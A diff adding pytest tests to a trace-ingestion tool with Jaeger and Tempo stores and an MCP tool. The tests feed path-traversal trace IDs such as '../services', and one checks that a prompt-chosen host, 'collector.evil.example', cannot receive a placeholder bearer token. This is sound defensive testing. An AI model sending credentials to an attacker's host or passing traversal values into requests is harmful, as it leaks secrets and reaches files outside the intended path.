@@ -426,6 +426,50 @@ def test_tempo_tenant_header_paging_query_and_missing_traces(home):
     assert missing.spans > 0 and "1 trace(s) listed but not found" in missing.sources[0].problem
 
 
+def test_a_trace_id_not_hex_is_refused_naming_it_before_any_request(home):
+    for server, scheme in [(JaegerV3(docs("healthy")), "jaeger"), (Tempo(docs("healthy")), "tempo")]:
+        with server as s:
+            for bad in ("../services", "ab/cd", "xyz", "a" * 33, ""):
+                with pytest.raises(ingest.StoreError, match="is not a trace id") as caught:
+                    ingest.ingest_paths(
+                        [f"{scheme}+http://127.0.0.1:{s.port}"],
+                        "bad-id",
+                        pull=ingest.PullOptions(trace_ids=("ab" * 16, bad)),
+                    )
+                assert repr(bad) in str(caught.value) and "\n" not in str(caught.value)
+            assert s.requests == []
+
+
+def test_tempo_an_error_drops_the_queued_fetches_without_waiting_for_them(home):
+    import threading
+    import time
+
+    from ingest.stores.tempo import FETCH_THREADS
+
+    release = threading.Event()
+
+    class Slow(Tempo):
+        def handle(self, method, path, params, headers, body):
+            if path.endswith("/" + "0" * 31 + "1"):
+                return 400, b"bad trace\n", {"Content-Type": "text/plain"}
+            release.wait(10)
+            return super().handle(method, path, params, headers, body)
+
+    ids = tuple(f"{i:032x}" for i in range(1, 41))
+    with Slow(docs("healthy")) as t:
+        begun = time.monotonic()
+        with pytest.raises(ingest.StoreError, match="HTTP 400"):
+            ingest.ingest_paths(
+                [f"tempo+http://127.0.0.1:{t.port}"], "t-cancel", pull=ingest.PullOptions(trace_ids=ids)
+            )
+        took = time.monotonic() - begun
+        release.set()
+        time.sleep(0.3)
+        fetched = [q for q in t.requests if q["path"].startswith("/api/traces/")]
+    assert took < 5, took  # the fetches in flight were not waited for
+    assert len(fetched) < 2 * FETCH_THREADS, len(fetched)  # the queued ones were dropped
+
+
 # ---- the MCP tool --------------------------------------------------------------------------------
 
 
@@ -457,3 +501,19 @@ def test_ingest_traces_takes_a_store_source(home):
             )
         )
     assert "needs a start and an end" in text or "start" in text
+
+
+def test_ingest_traces_sends_this_machines_credentials_only_to_hosts_the_user_listed(home, monkeypatch):
+    """A store an agent names must be on loopback, chdb://, or in DCR_STORE_HOSTS: a prompt
+    cannot send DCR_STORE_HEADERS or CLICKHOUSE_PASSWORD to a host of its choosing."""
+    from tests.mcp_helpers import MODES, call, error_text
+
+    monkeypatch.setenv("DCR_STORE_HEADERS", "Authorization: Bearer SUPERSECRET123")
+    args = {"dataset": "x", "start": "2025-06-12T09:00:00Z", "end": "2025-06-12T09:30:00Z"}
+    text = error_text(
+        call(MODES[0], "ingest_traces", {"paths": ["tempo+http://collector.evil.example:3200"], **args})
+    )
+    assert "not in DCR_STORE_HOSTS" in text and "SUPERSECRET123" not in text
+    monkeypatch.setenv("DCR_STORE_HOSTS", "127.0.0.2")  # listed (loopback: nothing leaves the machine)
+    text = error_text(call(MODES[0], "ingest_traces", {"paths": ["tempo+http://127.0.0.2:9"], **args}))
+    assert "not in DCR_STORE_HOSTS" not in text  # the pull is tried, and fails: nothing listens there
